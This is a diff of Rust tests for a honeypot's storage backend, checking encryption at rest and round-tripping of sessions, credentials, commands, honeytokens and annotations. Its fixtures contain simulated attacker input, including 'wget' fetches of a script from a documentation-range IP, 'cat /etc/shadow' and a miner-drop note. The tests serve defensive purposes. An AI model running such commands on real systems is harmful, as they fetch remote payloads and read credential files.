+            .with_encryption(key());
+        let id = Uuid::new_v4();
+        let session = Session {
+            id,
+            service_name: "ssh".into(),
+            client_addr: "203.0.113.7:40000".parse().unwrap(),
+            start_time: Utc::now(),
+            end_time: None,
+            container_id: None,
+            bytes_transferred: 0,
+            status: SessionStatus::Active,
+            enrichment: None,
+            original_dst: None,
+        };
+        storage.save_session(&session).await.unwrap();
+        storage.save_interaction(id, b"root\n").await.unwrap();
+        storage.save_interaction(id, b"hunter2\n").await.unwrap();
+        let credential = Credential {
+            session_id: id,
+            timestamp: Utc::now(),
+            service: "ssh".to_string(),
+            client_ip: Some("203.0.113.7".parse().unwrap()),
+            username: "root".to_string(),
+            password: Some("hunter2".to_string()),
+            accepted: Some(true),
+        };
+        storage
+            .save_credentials(std::slice::from_ref(&credential))
+            .await
+            .unwrap();
+        let artifacts = CaptureArtifacts {
+            session_id: id,
+            tcp_client_to_container: b"wget http://198.51.100.3/x.sh\n".to_vec(),
+            stdio_stdin: "cat /etc/shadow\n".to_string(),
+            tcp_timestamps: vec![(Utc::now(), Direction::ClientToContainer, 30)],
+            total_bytes: 30,
+            duration: chrono::Duration::seconds(2),
+            uploaded_files: vec![UploadedFile {
+                name: "x.sh".to_string(),
+                sha256: "0".repeat(64),
+                md5: "3e2b31c72181b87149ff995e7202c0e3".to_string(),
+                sha1: "bd971bec88149956458a10fc9c5ecb3eb99dd452".to_string(),
+                content: b"#!/bin/sh\n".to_vec(),
+                truncated: false,
+                virustotal: None,
+            }],
+            ..Default::default()
+        };
+        storage.save_capture_artifacts(&artifacts).await.unwrap();
+
+        // Nothing captured is left readable on disk
+        let mut dirs = vec![dir.path().to_path_buf()];
+        while let Some(dir) = dirs.pop() {
+            for entry in fs::read_dir(&dir).unwrap().flatten() {
+                let path = entry.path();
+                if path.is_dir() {
+                    dirs.push(path);
+                    continue;
+                }
+                let raw = fs::read(&path).unwrap();
+                assert!(encryption::is_encrypted(&raw), "{}", path.display());
+                for secret in [&b"hunter2"[..], b"shadow", b"203.0.113.7", b"#!/bin/sh"] {
+                    assert!(!raw.windows(secret.len()).any(|w| w == secret));
+                }
+            }
+        }
+
+        assert_eq!(
+            storage.get_session(id).await.unwrap().client_addr,
+            session.client_addr
+        );
+        assert_eq!(
+            storage.get_session_data(id).await.unwrap(),
+            b"root\nhunter2\n"
+        );
+        assert_eq!(
+            storage.get_credentials(None).await.unwrap(),
+            vec![credential]
+        );
+        let got = storage.get_capture_artifacts(id).await.unwrap();
+        assert_eq!(got.stdio_stdin, artifacts.stdio_stdin);
+        assert_eq!(got.tcp_timestamps.len(), 1);
+        assert_eq!(got.uploaded_files, artifacts.uploaded_files);
+        assert_eq!(storage.search("shadow", 10).await.unwrap().len(), 1);
+
+        // The files can only be read back with the key
+        let reopened = FileStorage::new(dir.path()).unwrap();
+        assert!(reopened.get_session_data(id).await.is_err());
+        assert!(reopened.get_capture_artifacts(id).await.is_err());
+        let reopened = FileStorage::new(dir.path()).unwrap().with_encryption(key());
+        assert_eq!(reopened.get_sessions(None).await.unwrap().len(), 1);
+    }
+
+    #[tokio::test]
+    async fn test_plain_files_are_sealed_before_being_appended_to() {
+        let dir = TempDir::new().unwrap();
+        let id = Uuid::new_v4();
+        let plain = FileStorage::new(dir.path()).unwrap();
+        plain.save_interaction(id, b"root\n").await.unwrap();
+
+        let key = EncryptionKey::parse(&"5a".repeat(32)).unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap().with_encryption(key);
+        assert_eq!(storage.get_session_data(id).await.unwrap(), b"root\n");
+        storage.save_interaction(id, b"hunter2\n").await.unwrap();
+
+        let raw = fs::read(storage.interactions_dir().join(format!("{}.bin", id))).unwrap();
+        assert!(encryption::is_encrypted(&raw));
+        assert!(!raw.windows(4).any(|w| w == b"root"));
+        assert_eq!(
+            storage.get_session_data(id).await.unwrap(),
+            b"root\nhunter2\n"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_credentials_roundtrip() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap();
+        let id = Uuid::new_v4();
+        let of_session = |session_id| {
+            Some(CredentialFilter {
+                session_id: Some(session_id),
+                ..Default::default()
+            })
+        };
+        assert!(storage
+            .get_credentials(of_session(id))
+            .await
+            .unwrap()
+            .is_empty());
+
+        let credential = Credential {
+            session_id: id,
+            timestamp: Utc::now(),
+            service: "ftp".to_string(),
+            client_ip: Some("203.0.113.7".parse().unwrap()),
+            username: "admin".to_string(),
+            password: Some("p\"ss word".to_string()),
+            accepted: Some(false),
+        };
+        storage
+            .save_credentials(std::slice::from_ref(&credential))
+            .await
+            .unwrap();
+        storage
+            .save_credentials(std::slice::from_ref(&credential))
+            .await
+            .unwrap();
+        assert_eq!(
+            storage.get_credentials(of_session(id)).await.unwrap(),
+            vec![credential.clone(), credential.clone()]
+        );
+
+        let other = Credential {
+            session_id: Uuid::new_v4(),
+            service: "ssh".to_string(),
+            password: None,
+            accepted: Some(true),
+            ..credential.clone()
+        };
+        storage
+            .save_credentials(std::slice::from_ref(&other))
+            .await
+            .unwrap();
+        assert_eq!(storage.get_credentials(None).await.unwrap().len(), 3);
+        assert_eq!(
+            storage
+                .get_credentials(Some(CredentialFilter {
+                    service_name: Some("ssh".to_string()),
+                    ..Default::default()
+                }))
+                .await
+                .unwrap(),
+            vec![other]
+        );
+        assert_eq!(
+            storage
+                .get_credentials(Some(CredentialFilter {
+                    password: Some("p\"ss word".to_string()),
+                    ..Default::default()
+                }))
+                .await
+                .unwrap()
+                .len(),
+            2
+        );
+    }
+
+    #[tokio::test]
+    async fn test_commands_roundtrip() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap();
+        let id = Uuid::new_v4();
+        assert!(storage.get_commands(id).await.unwrap().is_empty());
+
+        let mut command = ExecutedCommand {
+            session_id: id,
+            timestamp: Utc::now(),
+            source: "SSH".to_string(),
+            command: "wget http://203.0.113.7/x.sh".to_string(),
+            stdout_lines: 0,
+            stderr_lines: 0,
+            exit_hint: None,
+        };
+        storage
+            .save_commands(id, std::slice::from_ref(&command))
+            .await
+            .unwrap();
+        command.stderr_lines = 2;
+        command.exit_hint = Some(crate::storage::types::ExitHint::Error);
+        storage
+            .save_commands(id, std::slice::from_ref(&command))
+            .await
+            .unwrap();
+        assert_eq!(storage.get_commands(id).await.unwrap(), vec![command]);
+    }
+
+    #[tokio::test]
+    async fn test_honeytokens_roundtrip() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap();
+        let tokens: Vec<Honeytoken> = (0..3)
+            .map(|i| {
+                let mut token = crate::honeytokens::generate(&HoneytokenSpec {
+                    kind: HoneytokenKind::Credential,
+                    path: None,
+                });
+                token.created_at += chrono::Duration::seconds(i);
+                token.content = String::new();
+                token
+            })
+            .collect();
+        storage.save_honeytokens(&tokens).await.unwrap();
+        let mut assigned = tokens[2].clone();
+        assigned.session_id = Some(Uuid::new_v4());
+        storage
+            .save_honeytokens(std::slice::from_ref(&assigned))
+            .await
+            .unwrap();
+        assert_eq!(
+            storage.get_honeytokens(2).await.unwrap(),
+            vec![tokens[1].clone(), assigned]
+        );
+
+        storage.delete_honeytokens(&[tokens[0].id]).await.unwrap();
+        assert_eq!(storage.get_honeytokens(10).await.unwrap().len(), 2);
+    }
+
+    #[tokio::test]
+    async fn test_annotations_roundtrip_and_tag_filter() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap();
+        let (tagged, untagged) = (Uuid::new_v4(), Uuid::new_v4());
+        for id in [tagged, untagged] {
+            storage
+                .save_session(&Session {
+                    id,
+                    service_name: "ssh".into(),
+                    client_addr: "198.51.100.7:2222".parse().unwrap(),
+                    start_time: Utc::now(),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: 0,
+                    status: SessionStatus::Active,
+                    enrichment: None,
+                    original_dst: None,
+                })
+                .await
+                .unwrap();
+        }
+        let mut annotations = storage.get_annotations(tagged).await.unwrap();
+        assert!(annotations.tags.is_empty() && annotations.notes.is_none());
+
+        annotations.update(&AnnotationsUpdate {
+            add_tags: vec!["miner".into(), "bruteforce".into()],
+            notes: Some("xmrig dropped from 203.0.113.9".into()),
+            ..Default::default()
+        });
+        storage.save_annotations(&annotations).await.unwrap();
+        assert_eq!(storage.get_annotations(tagged).await.unwrap(), annotations);
+
+        let found = storage
+            .get_sessions(Some(SessionFilter {
+                tag: Some("miner".into()),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].id, tagged);
+
+        annotations.update(&AnnotationsUpdate {
+            remove_tags: vec!["miner".into()],
+            notes: Some(String::new()),
+            ..Default::default()
+        });
+        storage.save_annotations(&annotations).await.unwrap();
+        let saved = storage.get_annotations(tagged).await.unwrap();
+        assert_eq!(saved.tags.len(), 1);
+        assert!(saved.notes.is_none());
+        assert!(storage
+            .get_sessions(Some(SessionFilter {
+                tag: Some("miner".into()),
+                ..Default::default()
+            }))
+            .await
+            .unwrap()
+            .is_empty());
     }
 }